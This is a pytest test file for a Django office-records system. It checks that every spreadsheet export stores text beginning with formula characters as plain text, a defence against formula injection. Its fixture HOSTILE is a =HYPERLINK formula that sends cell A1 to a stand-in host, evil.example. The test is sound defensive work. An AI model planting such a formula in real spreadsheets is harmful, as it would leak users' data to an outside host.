"""Every spreadsheet the system hands out is written by ``ops.xlsx``: what a person typed stays text (issue 12).

A title ``=HYPERLINK("http://…"&A1, …)`` became a live formula in the 收文登记簿 and the 归档文件目录. Each export
below is fed such a text and opened again: the cell is a string cell, shown exactly as typed.
"""

from __future__ import annotations

import ast
from copy import copy
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.styles import Alignment, Font, PatternFill

from documents.records import services as records
from ops import xlsx
from org.models import Unit
from org.office_workbook import build_template
from tests.incoming.factories import register
from tests.outgoing.conftest import _media_in_tmp, draft, series, to_numbering  # noqa: F401 - fixtures
from tests.records.test_records import finished

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
STARTS = ["=1+1", "+86 0971", "-1+2", "@SUM(A1)", "\tTAB", "\rCR"]


def _cells(content: bytes, text: str) -> list:
    book = load_workbook(BytesIO(content))
    wanted = {text, text.replace("\r", "\n")}  # XML reads a carriage return back as a line feed
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value in wanted]


def _assert_text(content: bytes, text: str = HOSTILE) -> None:
    cells = _cells(content, text)
    assert cells, f"{text!r} is not in the workbook"
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.data_type)


def test_the_writer_keeps_every_formula_start_as_text_and_numbers_as_numbers():
    """Issue 12: = + - @ tab and CR at the start of a string are written as text; numbers stay numbers."""
    book = xlsx.workbook()
    book.active.append([*STARTS, -3, 2.5])
    content = xlsx.save(book)
    for text in STARTS:
        _assert_text(content, text)
    row = next(load_workbook(BytesIO(content)).active.iter_rows(values_only=True))
    assert row[-2:] == (-3, 2.5)


def test_no_module_but_the_writer_makes_a_workbook():
    """Issue 12: one writer — an export written past ``ops.xlsx`` would lose the protection."""
    offenders = []
    for package in ("ops", "org", "core", "deadlines", "documents", "leave", "meetings"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "ops" / "xlsx.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                    if any(alias.name == "Workbook" for alias in node.names):
                        offenders.append(str(path.relative_to(ROOT)))
                elif isinstance(node, ast.Attribute) and node.attr == "Workbook":
                    offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, offenders


def test_incoming_register_book_keeps_a_formula_title_as_text(client_as, office):
    """收文登记簿 [29(1)]."""
    register(office, title=HOSTILE)
    today = timezone.localdate().isoformat()
    response = client_as("shoufa").get(
        reverse("incoming:register_book"), {"start": today, "end": today, "format": "xlsx"}
    )
    assert response.status_code == 200
    _assert_text(response.content)


def test_outgoing_register_keeps_a_formula_title_as_text(client_as, office, draft):  # noqa: F811
    """发文登记簿 [30(5)]."""
    from documents.outgoing import services

    services.outgoing_number(actor=office["dazi"], pk=to_numbering(draft(title=HOSTILE)).pk)
    response = client_as("shoufa").get(reverse("outgoing:register_export", args=["xlsx"]))
    assert response.status_code == 200
    _assert_text(response.content)


def test_archive_register_and_transfer_list_keep_a_formula_title_as_text(client_as, office):
    """归档文件目录 and 移交清册 [33]."""
    doc = finished(office, title=HOSTILE)
    records.file_document(doc_kind="incoming", actor=office["shoufa"], pk=doc.pk)
    year = doc.year
    response = client_as("shoufa").get(reverse("records:archive"), {"year": year, "export": "xlsx"})
    assert response.status_code == 200
    _assert_text(response.content)
    response = client_as("shoufa").get(reverse("records:transfer_list", args=[year, "xlsx"]))
    assert response.status_code == 200
    _assert_text(response.content)


def test_attendance_summary_keeps_a_formula_name_as_text(client_as, office):
    """考勤汇总 [54]: a name typed as a formula."""
    profile = office["guikou1"].profile
    profile.full_name = HOSTILE
    profile.save(update_fields=["full_name"])
    today = timezone.localdate()
    response = client_as("shoufa").get(reverse("leave:attendance_xlsx"), {"year": today.year, "month": today.month})
    assert response.status_code == 200
    _assert_text(response.content)


def test_office_workbook_keeps_a_formula_unit_name_as_text(office):
    """The office workbook (组织机构导入表) the administrator downloads, edits and imports again."""
    Unit.objects.filter(pk=office.units["township"].pk).update(name=HOSTILE)
    _assert_text(build_template(current=True))


# --- the streamed (write-only) path for large exports (issue 13) ------------------------------------------------


def test_a_streamed_sheet_keeps_every_formula_start_as_text_styled_or_not():
    """Issue 12 on the write-only path: the text is typed as each row goes out, plain values and styled cells."""
    book = xlsx.write_only_workbook()
    sheet = xlsx.write_only_sheet(book, "表")
    bold = xlsx.cell_style(sheet, font=Font(bold=True))
    sheet.append([*STARTS, -3, 2.5])
    sheet.append([bold(HOSTILE), bold("普通")])
    content = xlsx.save(book)
    for text in [*STARTS, HOSTILE]:
        _assert_text(content, text)
    rows = list(load_workbook(BytesIO(content)).active.iter_rows(values_only=True))
    assert rows[0][-2:] == (-3, 2.5) and rows[1][1] == "普通"
    assert xlsx.last_row(sheet) == 2


def _layout(content: bytes) -> dict:
    """What a reader of the file sees: every cell's value, type and style, merges, widths and frozen panes."""
    sheet = load_workbook(BytesIO(content)).active
    cells = {  # ``copy`` unwraps openpyxl's style proxies, which compare by identity
        cell.coordinate: (
            cell.value,
            cell.data_type,
            *map(copy, (cell.font, cell.fill, cell.alignment)),
            cell.number_format,
        )
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None or cell.has_style
    }
    widths = {key: d.width for key, d in sheet.column_dimensions.items() if d.width}
    return {"cells": cells, "merged": sorted(map(str, sheet.merged_cells.ranges)), "widths": widths,
            "freeze": sheet.freeze_panes, "title": sheet.title}  # fmt: skip


def test_a_streamed_sheet_looks_like_the_same_sheet_written_the_normal_way():
    """Issue 13: title, header style, widths, frozen header, merged title, dates and typed text all the same."""
    title, header = Font(bold=True, size=14), Font(bold=True)
    fill = PatternFill("solid", fgColor="DDE7F0")
    centred = Alignment(horizontal="center", wrap_text=True)
    rows = [
        [1, "杂信〔2026〕1号", date(2026, 5, 4), HOSTILE, None],
        [2, "杂信〔2026〕2号", date(2026, 5, 5), "事由", 3],
    ]

    book = xlsx.workbook()
    sheet = book.active
    sheet.title = "登记簿"
    sheet.append(["标题"])
    sheet["A1"].font = title
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=5)
    sheet.append(["序号", "编号", "日期", "事由", "人数"])
    for cell in sheet[2]:
        cell.font, cell.fill, cell.alignment = header, fill, centred
    for values in rows:
        sheet.append(values)
        sheet.cell(xlsx.last_row(sheet), 5).number_format = "0.0"
    for letter, width in zip("ABCDE", (6, 18, 11, 36, 7), strict=True):
        sheet.column_dimensions[letter].width = width
    sheet.freeze_panes = "C3"
    normal = xlsx.save(book)

    book = xlsx.write_only_workbook()
    sheet = xlsx.write_only_sheet(book, "登记簿", widths=(6, 18, 11, 36, 7), freeze_panes="C3")
    sheet.append([xlsx.cell_style(sheet, font=title)("标题")])
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=5)
    head = xlsx.cell_style(sheet, font=header, fill=fill, alignment=centred)
    sheet.append([head(v) for v in ("序号", "编号", "日期", "事由", "人数")])
    one_decimal = xlsx.cell_style(sheet, number_format="0.0")
    for values in rows:
        sheet.append([*values[:4], one_decimal(values[4])])
    streamed = xlsx.save(book)

    assert _layout(streamed) == _layout(normal)


def test_a_streamed_sheet_refuses_frozen_panes_after_its_first_row():
    """The sheet view is written with the first row: a later freeze would be lost without a word."""
    book = xlsx.write_only_workbook()
    sheet = xlsx.write_only_sheet(book, "表")
    sheet.append(["标题"])
    with pytest.raises(RuntimeError):
        sheet.freeze_panes = "A2"
    xlsx.save(book)  # finish the file the sheet was streaming to
